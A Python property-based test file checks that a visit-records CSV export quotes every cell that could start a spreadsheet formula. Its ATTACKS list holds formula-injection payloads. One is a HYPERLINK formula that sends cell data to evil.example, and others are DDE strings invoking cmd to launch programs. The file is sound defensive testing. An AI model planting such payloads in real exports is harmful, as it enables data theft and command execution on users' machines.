"""CSV exports never hand a spreadsheet a formula: cells that would start one are quoted."""

from __future__ import annotations

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st

from server.services.exports import FORMULA_LEADS, _write_row, neutralise_cell
from tests.api.sync_helpers import SyncSession

# Any text (no lone surrogates: not valid JSON text), often led by a formula character.
TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=60)
LED = st.tuples(st.sampled_from(FORMULA_LEADS + ("'", " ", "井")), TEXT).map("".join)
CELL = LED | TEXT
# What a phone can store in a record: PostgreSQL's jsonb holds no NUL character.
STORABLE = st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")
PHONE_TEXT = st.text(STORABLE, max_size=60)
PHONE_LED = st.tuples(st.sampled_from([c for c in FORMULA_LEADS if c != "\x00"] + ["'", " ", "井"]), PHONE_TEXT).map(
    "".join)
PHONE_CELL = PHONE_LED | PHONE_TEXT
ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
           "=cmd|' /C notepad'!'A1'", "\t=1+1", "\r=1+1", "\uff1d1+1", "@", "=", "-"]


def read_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_LEADS), (cell, row)


@settings(max_examples=500)
@given(st.lists(CELL, min_size=1, max_size=8))
def test_no_written_cell_starts_a_formula_and_nothing_else_changes(cells):
    out = io.StringIO()
    _write_row(csv.writer(out), cells)
    [row] = read_cells(out.getvalue())
    assert_no_formula([row])
    for written, original in zip(row, cells, strict=True):
        assert written == (f"'{original}" if original.startswith(FORMULA_LEADS) else original)


@given(st.integers(min_value=-(2**63), max_value=2**63) | st.none() | st.floats(allow_nan=False))
def test_numbers_and_missing_values_are_written_as_text_that_starts_no_formula(value):
    assert not neutralise_cell(value).startswith(FORMULA_LEADS)


def test_the_visit_export_quotes_every_cell_a_phone_filled_with_a_formula(client, auth):
    phone = SyncSession(client, auth, "g1-2")
    desk = auth.headers("g1-1")

    @settings(max_examples=40, deadline=None)
    @given(place=PHONE_LED.filter(lambda s: 1 <= len(s) <= 120), needs=PHONE_CELL, notes=PHONE_CELL,
           contact_name=PHONE_LED.filter(lambda s: len(s) <= 60))
    def export_of(place, needs, notes, contact_name):
        visit = phone.mutation("visit", "create", {
            "place_kind": "household", "place": place, "needs": needs, "notes": notes,
            "contact_name": contact_name, "visited_at": "2026-11-22T10:00:00+08:00"})
        assert phone.push_one(visit)["status"] == "applied"
        response = client.get("/api/visits/export.csv", headers=desk)
        assert response.status_code == 200
        rows = read_cells(response.data.decode("utf-8-sig"))
        assert_no_formula(rows)
        [row] = [r for r in rows if r[0] == visit["entity_id"]]
        assert row[6] == (f"'{place}" if place.startswith(FORMULA_LEADS) else place)

    export_of()


def test_known_formula_attacks_arrive_quoted_in_the_visit_export(client, auth):
    phone = SyncSession(client, auth, "g1-2")
    for attack in ATTACKS:
        data = {"place_kind": "shop", "place": attack, "needs": attack, "notes": attack, "contact_name": attack[:60],
                "visited_at": "2026-11-22T10:00:00+08:00"}
        assert phone.push_one(phone.mutation("visit", "create", data))["status"] == "applied"
    rows = read_cells(client.get("/api/visits/export.csv", headers=auth.headers("street1")).data.decode("utf-8-sig"))
    assert_no_formula(rows)
    places = {row[6] for row in rows[1:]}
    assert places == {f"'{attack}" for attack in ATTACKS}
